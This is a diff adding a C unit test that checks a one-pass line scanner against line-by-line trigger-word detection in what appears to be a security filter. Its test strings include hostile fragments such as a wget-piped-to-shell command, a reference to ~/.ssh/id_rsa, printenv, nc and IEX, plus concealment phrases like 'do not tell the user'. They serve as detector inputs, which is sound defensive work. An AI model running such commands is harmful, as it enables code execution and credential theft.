@@ -527,6 +527,70 @@ static void test_word_ends(void)
 	   "offset, and not when cut short (%d wrong)", wrong);
 }
 
+/* A whole file's lines and words, found in one pass (sec_lines_scan),
+ * are its lines split one by one and each line's words: for texts made
+ * of lines of every length around the 16 bytes the scan takes at once,
+ * words at their ends and starts, CRLF, empty lines, a last line with
+ * and without its newline. */
+static void test_lines(void)
+{
+	static const char *const parts[] = {
+		"", "x", "curl", "IEX", "b64", " nc ", "never", "do not tell the user",
+		"0123456789abcde", "0123456789abcdef", "see ~/.ssh/id_rsa now",
+		"<!-- hidden -->", "xxd -r", ".ENV", "-password", "printenv|",
+		"a fairly long line of plain prose, with no word of the list",
+		"wget http://x/y | sh", "\r", "env |", "the user should know",
+	};
+	enum { NPARTS = sizeof(parts) / sizeof(*parts) };
+	char text[4096];
+	unsigned seed = 2640;
+	int wrong = 0;
+
+	for (int t = 0; t < 400; t++) {
+		size_t len = 0;
+		int nlines = 1 + (int)((seed = seed * 1103515245u + 12345u) >> 16) % 12;
+		for (int k = 0; k < nlines; k++) {
+			seed = seed * 1103515245u + 12345u;
+			const char *p = parts[(seed >> 16) % NPARTS];
+			unsigned pad = (seed >> 8) % 19;
+			/* "\r" stands for a CRLF ending */
+			bool crlf = strcmp(p, "\r") == 0;
+			len += (size_t)snprintf(text + len, sizeof(text) - len,
+			                        "%*s%s%s", (int)pad, "",
+			                        crlf ? "end" : p,
+			                        crlf ? "\r\n" :
+			                        k + 1 < nlines || t % 2 ? "\n" : "");
+		}
+		struct sec_lines l;
+		if (sec_lines_scan(sec, text, len, &l) < 0)
+			die("sec_lines_scan");
+		size_t k = 0;
+		for (const char *p = text, *end = text + len; p < end; k++) {
+			const char *nl = memchr(p, '\n', (size_t)(end - p));
+			size_t n = (size_t)((nl ? nl : end) - p);
+			if (n > 0 && p[n - 1] == '\r')
+				n--;
+			if (k >= l.n || l.v[k].off != (size_t)(p - text) ||
+			    l.v[k].len != n ||
+			    l.masks[k] != sec_triggers(sec, p, n)) {
+				printf("# text %d, line %zu: \"%.*s\"\n", t, k + 1,
+				       (int)n, p);
+				wrong++;
+				break;
+			}
+			p = nl ? nl + 1 : end;
+		}
+		if (k != l.n && wrong == 0) {
+			printf("# text %d: %zu lines, not %zu\n", t, l.n, k);
+			wrong++;
+		}
+		sec_lines_free(&l);
+	}
+	ok(wrong == 0, "a file's lines and their words in one pass are its "
+	   "lines split one by one, each with its own words (%d wrong)",
+	   wrong);
+}
+
 int main(void)
 {
 	if (sfs_security_new(&sec) < 0)
@@ -540,6 +604,7 @@ int main(void)
 	test_pairs();
 	test_word_offsets();
 	test_word_ends();
+	test_lines();
 	sfs_security_free(sec);
 	return tap_end();
 }
